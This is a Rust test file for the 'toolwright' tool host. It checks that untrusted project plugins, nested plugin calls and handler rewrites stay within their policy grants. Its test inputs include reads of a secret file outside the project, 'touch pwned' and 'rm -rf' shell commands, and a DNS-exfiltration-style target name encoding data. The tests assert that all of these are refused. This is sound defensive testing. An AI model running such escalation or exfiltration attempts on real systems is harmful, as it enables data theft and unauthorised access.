//! Escalation through another: a cloned project, a plugin's nested calls and a handler's rewrites must reach
//! nothing their own grants do not, whoever acts for them. Each case drives the `toolwright` command line as a
//! client would (`exec` with a calls file, `mcp` over stdio), with a user config of its own, and asserts the
//! exact text, that the next call works, and what is (not) on disk.

#![allow(clippy::unwrap_used)] // Test code: a panic is a failure with a message.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::{Value, json};
use toolwright_tests::golden::test_cache_dir;
use toolwright_tests::mcp::StdioServer as Mcp;
use toolwright_tests::programs::{EXAMPLES, NESTED, PROBE};
use toolwright_tests::text_of;

const NESTED_NAME: &str = "toolwright-test-nested";

/// A user (config directory), a project cloned into `ws/project` with a hostile `.toolwright/`, and a file
/// outside the project (`ws/outside/secret.txt`) that nothing in the project was granted.
struct Clone {
    root: tempfile::TempDir,
    config: PathBuf,
    /// The tools `--allow` lets in.
    allow: String,
}

impl Clone {
    fn new() -> Clone {
        let root = tempfile::tempdir().unwrap();
        let config = root.path().join("config");
        let project = root.path().join("project");
        let plugins = project.join(".toolwright/plugins");
        std::fs::create_dir_all(&plugins).unwrap();
        std::fs::create_dir_all(root.path().join("outside")).unwrap();
        std::fs::create_dir_all(project.join("sub")).unwrap();
        std::fs::write(root.path().join("outside/secret.txt"), "the secret\n").unwrap();
        std::fs::write(project.join("sub/a.txt"), "alpha\n").unwrap();
        std::fs::write(project.join("notes.txt"), "notes\n").unwrap();
        std::fs::copy(NESTED, plugins.join("nest.wasm")).unwrap();
        // A plugin declaring a tool named like a built-in: the wasm build of `read` itself.
        let (_, read) = toolwright::wasm::components::BUILTINS
            .unwrap()
            .iter()
            .find(|(name, _)| *name == "read")
            .unwrap();
        std::fs::write(plugins.join("read.wasm"), read).unwrap();
        Clone {
            root,
            config,
            allow: "read,bash,nest".into(),
        }
    }

    fn project(&self) -> PathBuf {
        self.root.path().join("project")
    }

    fn outside(&self) -> PathBuf {
        self.root.path().join("outside")
    }

    fn command(&self) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_toolwright-cli"));
        command
            .env("XDG_CONFIG_HOME", &self.config)
            .env_remove("TOOLWRIGHT_LOG")
            .current_dir(self.project())
            .stdin(Stdio::null());
        command
    }

    fn trust(&self) -> String {
        let out = self.command().arg("trust").output().unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    fn audit_log(&self) -> PathBuf {
        self.root.path().join("audit.jsonl")
    }

    /// The last audit record of the call `id`.
    fn audited(&self, id: &str) -> Value {
        std::fs::read_to_string(self.audit_log())
            .unwrap()
            .lines()
            .rev()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .find(|r| r["id"] == id)
            .unwrap()
    }

    fn args(&self) -> Vec<String> {
        vec![
            "--audit-log".into(),
            self.audit_log().to_string_lossy().into_owned(),
            "--cache-dir".into(),
            test_cache_dir().to_string_lossy().into_owned(),
            "--allow".into(),
            self.allow.clone(),
        ]
    }

    /// `toolwright exec` on `calls` (name, arguments): each result's (isError, text), and stderr.
    fn exec(&self, calls: &[(&str, Value)]) -> (Vec<(bool, String)>, String) {
        let file = self.root.path().join("calls.json");
        let calls: Vec<Value> = calls
            .iter()
            .enumerate()
            .map(|(i, (name, args))| json!({"id": format!("c{i}"), "name": name, "arguments": args}))
            .collect();
        std::fs::write(&file, json!({ "toolCalls": calls }).to_string()).unwrap();
        let out = self
            .command()
            .arg("exec")
            .arg(&file)
            .arg("--json")
            .args(self.args())
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let results = String::from_utf8_lossy(&out.stdout)
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .filter(|e| e["type"] == "message_end")
            .map(|e| (e["message"]["isError"] == true, text_of(&e["message"]["content"])))
            .collect();
        (results, String::from_utf8_lossy(&out.stderr).into_owned())
    }

    fn mcp(&self) -> Mcp {
        let mut command = self.command();
        command.arg("mcp").args(self.args());
        Mcp::start_with(&mut command)
    }
}

fn nest(calls: Value) -> (&'static str, Value) {
    ("nest", json!({ "calls": calls }))
}

#[test]
fn a_cloned_project_does_nothing_until_trusted_then_reaches_only_its_grants() {
    let clone = Clone::new();
    let project = clone.project().to_string_lossy().into_owned();
    let secret = clone.outside().join("secret.txt").to_string_lossy().into_owned();
    let pwned = clone.outside().join("pwned");
    let skipped = format!(
        "toolwright: warning: skipped the project's plugins and grants in {project} (the project is not \
         trusted); `toolwright trust {project}` loads them"
    );

    // Untrusted: its plugins do not load, and one line says so and how to trust it.
    let (results, stderr) = clone.exec(&[
        nest(json!([{"name": "read", "arguments": {"path": secret}}])),
        ("read", json!({"path": "notes.txt"})),
    ]);
    assert_eq!(results[0], (true, "Tool nest not found".into()));
    assert_eq!(results[1], (false, "notes\n".into()));
    assert!(stderr.contains(&skipped), "{stderr}");

    // Trusted: its plugins load, but reach no tool their grant does not name, and take no built-in's name.
    assert!(
        clone
            .trust()
            .starts_with(&format!("trusted {project} as it is now"))
    );
    let (results, stderr) = clone.exec(&[
        nest(json!([
            {"name": "read", "arguments": {"path": secret}},
            {"name": "bash", "arguments": {"command": format!("touch {}", pwned.display())}}
        ])),
        ("read", json!({"path": "notes.txt"})),
    ]);
    let refused = |tool: &str| {
        format!(
            "{tool} error: Permission denied: the plugin {NESTED_NAME} may not call the tool {tool}. A tools grant \
             of {tool} in the policy file (toolwright.toml) would allow it ([plugins.{NESTED_NAME}] tools = \
             [\"{tool}\"])."
        )
    };
    assert_eq!(
        results[0],
        (false, format!("{}\n{}", refused("read"), refused("bash")))
    );
    assert_eq!(results[1], (false, "notes\n".into()), "the built-in read answers");
    // The audit record names whose authority the nested call ran under, and the step that refused it.
    let record = clone.audited("c0/1");
    assert_eq!(record["authority"], format!("the plugin {NESTED_NAME}"));
    assert_eq!(record["decision"][0]["by"], "authority");
    assert_eq!(record["decision"][0]["verdict"], "refused");
    assert_eq!(
        clone.audited("c0")["authority"],
        Value::Null,
        "the model's call: the host's authority"
    );
    assert!(!stderr.contains("skipped the project"), "{stderr}");
    assert!(
        stderr.contains("the tool `read` has the name of the built-in `read`; the built-in stays"),
        "{stderr}"
    );
    assert!(!pwned.exists());

    // The project's policy grants tools and a directory: what it ships changed, so the trust lapsed.
    std::fs::write(
        clone.project().join("toolwright.toml"),
        format!("[plugins.{NESTED_NAME}]\ntools = [\"read\", \"bash\"]\nread = [\"./sub\"]\n"),
    )
    .unwrap();
    let (results, stderr) = clone.exec(&[nest(
        json!([{"name": "read", "arguments": {"path": "sub/a.txt"}}]),
    )]);
    assert_eq!(results[0], (true, "Tool nest not found".into()));
    assert!(
        stderr.contains("(what the project ships changed since it was trusted)"),
        "{stderr}"
    );
    clone.trust();
    // Trusted again: a built-in it calls runs within its grants, not the built-in's.
    let (results, _) = clone.exec(&[nest(json!([
        {"name": "read", "arguments": {"path": "sub/a.txt"}},
        {"name": "read", "arguments": {"path": secret}},
        {"name": "read", "arguments": {"path": "notes.txt"}},
        {"name": "bash", "arguments": {"command": format!("touch {}", pwned.display())}}
    ]))]);
    // (`alpha\n` leaves an empty line.)
    let lines: Vec<&str> = results[0].1.lines().filter(|l| !l.is_empty()).collect();
    assert_eq!(lines[0], "read ok ran: alpha");
    let not_granted = |path: &str| {
        format!(
            "read error ran: Permission denied: read access to {path} is not granted (granted for read: \
             {project}/sub). A read-only or read-write grant of {path} in the policy file (toolwright.toml) would \
             allow it."
        )
    };
    assert_eq!(lines[1], not_granted(&secret));
    assert_eq!(lines[2], not_granted(&format!("{project}/notes.txt")));
    // bash cannot even see the workspace it would run in: pi's refusal, and nothing runs.
    assert_eq!(
        lines[3..],
        [
            format!("bash error ran: Working directory does not exist: {project}").as_str(),
            "Cannot execute bash commands."
        ]
    );
    assert!(!pwned.exists());

    // Granted the workspace (read) and the shell: bash runs, confined to the plugin's grants (Landlock).
    std::fs::write(
        clone.project().join("toolwright.toml"),
        format!("[plugins.{NESTED_NAME}]\ntools = [\"bash\"]\nread = [\".\"]\nspawn = [\"sh\"]\n"),
    )
    .unwrap();
    clone.trust();
    let (results, _) = clone.exec(&[nest(json!([
        {"name": "bash", "arguments": {"command": format!("cat sub/a.txt; touch {} || echo refused", pwned.display())}}
    ]))]);
    assert!(
        results[0]
            .1
            .starts_with("bash ok ran: alpha\ntouch: cannot touch"),
        "{}",
        results[0].1
    );
    assert!(
        results[0].1.ends_with("Permission denied\nrefused\n"),
        "{}",
        results[0].1
    );
    assert!(!pwned.exists());
}

#[test]
fn under_mcp_a_plugins_nested_calls_stay_within_its_grants() {
    let clone = Clone::new();
    std::fs::write(
        clone.project().join("toolwright.toml"),
        format!("[plugins.{NESTED_NAME}]\ntools = [\"read\"]\nread = [\"./sub\"]\n"),
    )
    .unwrap();
    clone.trust();
    let secret = clone.outside().join("secret.txt").to_string_lossy().into_owned();
    let mut mcp = clone.mcp();
    let (is_error, text) = mcp.run(
        2,
        "nest",
        json!({"calls": [
            {"name": "read", "arguments": {"path": secret}},
            {"name": "bash", "arguments": {"command": "echo hi"}},
            {"name": "read", "arguments": {"path": "sub/a.txt"}}
        ]}),
    );
    assert!(!is_error, "{text}");
    let lines: Vec<&str> = text.lines().collect();
    let project = clone.project().to_string_lossy().into_owned();
    assert_eq!(
        lines[0],
        format!(
            "read error ran: Permission denied: read access to {secret} is not granted (granted for read: \
             {project}/sub). A read-only or read-write grant of {secret} in the policy file (toolwright.toml) would \
             allow it."
        )
    );
    assert!(
        lines[1].starts_with(&format!(
            "bash error: Permission denied: the plugin {NESTED_NAME} may not call the tool bash."
        )),
        "{text}"
    );
    assert_eq!(lines[2], "read ok ran: alpha");
    // The next call works.
    let (is_error, text) = mcp.run(3, "read", json!({"path": "notes.txt"}));
    assert_eq!((is_error, text.as_str()), (false, "notes\n"));
}

/// A one-connection-at-a-time server on a free local port that says `hello`.
fn greeter() -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _ = std::io::Write::write_all(&mut stream, b"hello");
        }
    });
    port
}

#[test]
fn a_plugin_without_network_cannot_reach_hosts_or_names_through_a_plugin_with_it_under_exec_and_mcp() {
    // The nesting plugin has no network (it requests none); it is granted calls to the probe, which is granted one
    // address. Through the probe it would connect there, or have a name carrying data looked up
    // (`<secret>.exfiltrate.invalid`): the call is refused before the probe runs, whatever it asks.
    let mut clone = Clone::new();
    clone.allow.push_str(",probe");
    std::fs::copy(PROBE, clone.project().join(".toolwright/plugins/probe.wasm")).unwrap();
    let port = greeter();
    std::fs::write(
        clone.project().join("toolwright.toml"),
        format!(
            "[plugins.{NESTED_NAME}]\ntools = [\"probe\"]\nnetwork = [\"127.0.0.1:{port}\"]\n\
             [plugins.toolwright-test-probe]\nnetwork = [\"127.0.0.1:{port}\"]\n"
        ),
    )
    .unwrap();
    clone.trust();
    let connect =
        |target: String| json!({"name": "probe", "arguments": {"action": "connect", "target": target}});
    let calls = json!([
        connect(format!("localhost:{port}")),
        connect("c2VjcmV0.exfiltrate.invalid:53".into()),
        connect(format!("127.0.0.1:{port}")),
    ]);
    let refused = "probe error ran: Permission denied: the plugin toolwright-test-nested may not call probe of the \
                   plugin toolwright-test-probe: the plugin toolwright-test-probe is granted network access, which \
                   the plugin toolwright-test-nested is not.";
    let (results, stderr) = clone.exec(&[nest(calls.clone())]);
    assert_eq!(results.len(), 1, "{stderr}");
    assert_eq!(results[0].1.lines().collect::<Vec<_>>(), [refused; 3], "{stderr}");
    let mut mcp = clone.mcp();
    let (is_error, text) = mcp.run(2, "nest", json!({ "calls": calls }));
    assert!(!is_error, "{text}");
    assert_eq!(text.lines().collect::<Vec<_>>(), [refused; 3]);
    // The probe called directly reaches its address, and no other name.
    let (is_error, text) = mcp.run(
        3,
        "probe",
        json!({"action": "connect", "target": format!("127.0.0.1:{port}")}),
    );
    assert_eq!((is_error, text.as_str()), (false, "connected: hello"));
    let (is_error, text) = mcp.run(
        4,
        "probe",
        json!({"action": "connect", "target": format!("localhost:{port}")}),
    );
    assert_eq!(
        (is_error, text.as_str()),
        (true, "PermissionDenied: Permission denied (os error 2)")
    );
}

/// The `guard` example (drops a leading `sudo ` from bash commands) as a trusted handler plugin, with `policy`.
fn guarded(policy: &str) -> (tempfile::TempDir, Vec<String>) {
    let dir = tempfile::tempdir().unwrap();
    let plugins = dir.path().join("plugins");
    std::fs::create_dir_all(&plugins).unwrap();
    let (_, guard) = EXAMPLES.iter().find(|(name, _)| name.ends_with("guard")).unwrap();
    std::fs::write(plugins.join("guard.wasm"), guard).unwrap();
    std::fs::write(dir.path().join("policy.toml"), policy).unwrap();
    let args = vec![
        "--no-default-plugins".into(),
        "--cwd".into(),
        dir.path().to_string_lossy().into_owned(),
        "--plugins".into(),
        plugins.to_string_lossy().into_owned(),
        "--policy".into(),
        dir.path().join("policy.toml").to_string_lossy().into_owned(),
        "--cache-dir".into(),
        test_cache_dir().to_string_lossy().into_owned(),
    ];
    (dir, args)
}

fn exec_bash(dir: &Path, args: &[String], command: &str) -> (bool, String) {
    let file = dir.join("calls.json");
    let calls = json!({"toolCalls": [{"id": "c1", "name": "bash", "arguments": {"command": command}}]});
    std::fs::write(&file, calls.to_string()).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_toolwright-cli"))
        .arg("exec")
        .arg(&file)
        .arg("--json")
        .args(args)
        .env("XDG_CONFIG_HOME", dir.join("config"))
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|e| e["type"] == "message_end")
        .map(|e| (e["message"]["isError"] == true, text_of(&e["message"]["content"])))
        .unwrap()
}

#[test]
fn a_handler_rewrites_only_the_tools_its_grant_names() {
    // Not granted: the rewrite blocks the call, which does not run.
    let (dir, args) = guarded("");
    let marker = dir.path().join("ran");
    let (is_error, text) = exec_bash(dir.path(), &args, &format!("sudo touch {}", marker.display()));
    assert!(is_error);
    assert_eq!(
        text,
        "Permission denied: the handler plugin toolwright-example-guard may not rewrite the arguments of bash. A \
         rewrite grant of bash in the policy file (toolwright.toml) would allow it ([plugins.toolwright-example-guard] \
         rewrite = [\"bash\"])."
    );
    assert!(!marker.exists());
    // Blocking needs no grant.
    let (is_error, text) = exec_bash(dir.path(), &args, "rm -rf nothing");
    assert_eq!(
        (is_error, text.as_str()),
        (true, "guard: recursive deletes are not allowed")
    );

    // Granted: the rewrite runs.
    let (dir, args) = guarded("[plugins.toolwright-example-guard]\nrewrite = [\"bash\"]\n");
    let marker = dir.path().join("ran");
    let (is_error, _) = exec_bash(dir.path(), &args, &format!("sudo touch {}", marker.display()));
    assert!(!is_error);
    assert!(marker.exists());
}
